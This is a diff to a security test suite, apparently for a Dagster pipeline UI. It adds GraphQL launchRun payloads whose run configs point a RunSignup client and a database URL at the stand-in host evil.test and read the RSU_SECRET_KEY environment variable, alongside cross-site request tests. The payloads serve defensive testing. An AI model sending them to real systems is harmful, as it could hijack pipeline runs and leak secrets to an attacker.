@@ -6,6 +6,7 @@ through the proxy example. docs/security.md has the table (`python -m rsu_pipeli
 In texts `$SENSOR` is the id of a sensor that is on, `$RUN` that of a run, `$HOST` and `$ORIGIN` are the UI's own.
 """
 
+import json
 from dataclasses import dataclass, field
 from typing import Literal
 from urllib.parse import quote
@@ -22,6 +23,7 @@ REVEALING = (b"dagster_version", b"__NEXT_DATA__", b"\x1f\x8b", PRINTED.encode()
 """One of these is in an answer that reveals something: to a question, a page, a debug file, what a run printed."""
 READ = "{ version instance { hasInfo } dagster_version: version }"
 STOP = 'mutation { stopSensor(id: "$SENSOR") { __typename } }'
+CONFIG = "runConfigData: "
 LAUNCH = (
     'mutation { launchRun(executionParams: {selector: {repositoryLocationName: "rsu_pipeline", repositoryName:'
     ' "__repository__", jobName: "check_fleet"}, mode: "default", runConfigData: "{}"}) { __typename } }'
@@ -32,14 +34,19 @@ EVIL = "https://evil.test"
 JSON = "application/json"
 
 
+def launch(config: object) -> str:
+    """A launch with this run config."""
+    return LAUNCH.replace(f'{CONFIG}"{{}}"', CONFIG + json.dumps(json.dumps(config)))
+
+
 def body(document: str) -> str:
     """A document as Dagster's page sends it."""
-    return '{"query": "' + document.replace('"', '\\"') + '"}'
+    return json.dumps({"query": document})
 
 
 def start(document: str) -> str:
     """The same over a websocket."""
-    return '{"id": "1", "type": "start", "payload": ' + body(document) + "}"
+    return json.dumps({"id": "1", "type": "start", "payload": {"query": document}})
 
 
 @dataclass(frozen=True)
@@ -98,6 +105,15 @@ ATTACKS = (
     ),
     post("a launch from another site", CHANGES, JSON, body(LAUNCH), Origin=EVIL),
     post("a question from another site", READS, JSON, body(READ), Origin=EVIL),
+    # Run configs, as our own page could send them.
+    *(
+        post(f"a launch whose config {what}", NOTHING, JSON, body(launch(config)), Origin="$ORIGIN")
+        for what, config in (
+            ("has another address of RunSignup", {"resources": {"runsignup": {"config": {"base_url": EVIL}}}}),
+            ("has another database", {"resources": {"warehouse": {"config": {"url": "postgresql://evil.test/x"}}}}),
+            ("reads the environment", {"ops": {"fleet_health": {"config": {"x": {"env": "RSU_SECRET_KEY"}}}}}),
+        )
+    ),
     # What a page may send to anybody without asking.
     Attack("a form, document in the URL", CHANGES, "POST", IN_URL, _headers("application/x-www-form-urlencoded", {})),
     Attack(
